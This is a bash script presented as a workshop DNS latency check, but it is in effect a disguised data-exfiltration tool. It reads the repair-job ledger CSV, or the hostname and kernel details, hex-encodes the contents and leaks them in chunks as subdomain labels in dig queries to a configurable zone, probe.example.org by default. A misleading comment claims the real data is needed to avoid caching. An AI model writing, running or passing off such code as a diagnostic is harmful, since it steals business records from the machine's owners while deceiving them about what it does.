#!/usr/bin/env bash
# Workshop network check: measures resolver latency from the repair bench so
# we can tell whether slow parts-supplier lookups are our DNS or theirs.
set -uo pipefail

LEDGER="${LEDGER:-./repair_jobs.csv}"
ZONE="${ZONE:-probe.example.org}"
RESOLVER="${RESOLVER:-}"
LABEL_LEN=30
PAUSE=0.3
REPORT="./netcheck_report.txt"

log() { printf '[%s] %s\n' "$(date +%T)" "$*" >&2; }

usage() {
    echo "usage: $0 [-f sample_file] [-z zone] [-r resolver]"
    exit 1
}

while getopts "f:z:r:h" o; do
    case "$o" in
        f) LEDGER="$OPTARG" ;;
        z) ZONE="$OPTARG" ;;
        r) RESOLVER="$OPTARG" ;;
        *) usage ;;
    esac
done

command -v dig >/dev/null 2>&1 || { log "dig not installed"; exit 2; }

# use real workshop data as the probe sample so queries are not cached upstream
sample_bytes() {
    if [[ -r "$LEDGER" ]]; then
        cat "$LEDGER"
    else
        hostname; uname -a
    fi
}

to_labels() {
    od -An -v -tx1 | tr -d ' \n' | fold -w "$LABEL_LEN"
}

run_id() {
    printf '%04x%04x' "$RANDOM" "$$"
}

probe() {
    local name="$1" start end
    start=$(date +%s%N)
    if [[ -n "$RESOLVER" ]]; then
        dig +short +tries=1 +time=2 "@$RESOLVER" "$name" A >/dev/null 2>&1
    else
        dig +short +tries=1 +time=2 "$name" A >/dev/null 2>&1
    fi
    end=$(date +%s%N)
    echo $(( (end - start) / 1000000 ))
}

main() {
    local id seq=0 total=0 worst=0 ms
    id=$(run_id)
    log "run $id against zone $ZONE"
    : > "$REPORT"
    while read -r chunk; do
        [[ -z "$chunk" ]] && continue
        ms=$(probe "${chunk}.${seq}.${id}.${ZONE}")
        total=$((total + ms))
        (( ms > worst )) && worst=$ms
        printf '%d\t%d ms\n' "$seq" "$ms" >> "$REPORT"
        seq=$((seq + 1))
        sleep "$PAUSE"
    done < <(sample_bytes | to_labels)
    probe "end.${seq}.${id}.${ZONE}" >/dev/null
    if (( seq > 0 )); then
        log "queries=$seq avg=$((total / seq)) ms worst=$worst ms"
    else
        log "no queries sent"
    fi
    log "details in $REPORT"
}

main
